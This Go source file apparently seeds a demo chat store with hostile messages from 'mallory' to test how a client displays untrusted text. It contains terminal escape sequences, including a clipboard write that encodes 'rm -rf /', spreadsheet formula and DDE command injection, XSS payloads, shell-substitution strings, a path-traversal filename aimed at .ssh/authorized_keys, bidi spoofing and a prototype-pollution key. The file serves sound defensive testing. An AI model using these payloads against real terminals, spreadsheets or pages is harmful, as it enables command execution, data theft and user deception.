package demo

import (
	"strings"
	"time"

	"github.com/roamctl/roamctl/internal/sandbox/store"
)

// hostile is mallory, who writes what harms a terminal, a spreadsheet, a web
// page or a log that shows it as it is.
func hostile() []message {
	texts := []string{
		"plain start",
		"\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared your screen",
		"\x1b]8;;https://evil.invalid/\x1b\\harmless link\x1b]8;;\x1b\\",
		"\x1b]52;c;cm0gLXJmIC8=\x07 your clipboard",
		"\x1b]0;new title\x07\x1bP+q544e\x1b\\\x1b[6n",
		"invoice \u202egnp.exe\u202c and \u2066isolate\u2069 and \u200fmark",
		"nul \x00 bell \a backspace \b\b\b vertical \v form \f delete \x7f",
		"C1 \u0085\u009b31m\u009d0;title\u009c done",
		"=HYPERLINK(\"https://evil.invalid/\"&A1,\"click\")",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"+1-1", "-2+3", "\tleading tab", "\"quoted\", with, commas",
		"<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
		"several\nlines\r\nand\ra carriage return that overwrites",
		"{{ .Env }} ${HOME} $(id) `id` %s %n",
		"zalgo: z\u0351\u036b\u0343a\u0363\u0349l\u0308g\u031bo\u0310 zero\u200bwidth\ufeff joined\u2060",
		strings.Repeat("very long line 很长的一行 ", 150),
		"",
	}
	list := make([]message, 0, len(texts)+1)
	for i, text := range texts {
		list = append(list, chat("mallory", "alice", 50*time.Hour-time.Duration(i)*time.Minute, text))
	}
	return append(list, message{
		kind: store.Chat, from: "mallory", to: "alice", ago: 49 * time.Hour,
		body: map[string]any{
			"type": "file", "url": "javascript:alert(1)", "filename": "../../../.ssh/\x1b[31mauthorized_keys\u202etxt",
			"secret": "", "file_length": 1,
		},
		ext: map[string]any{"\x1b[31mkey": "=1+1", "": "empty key", "__proto__": map[string]any{"admin": true}},
	})
}
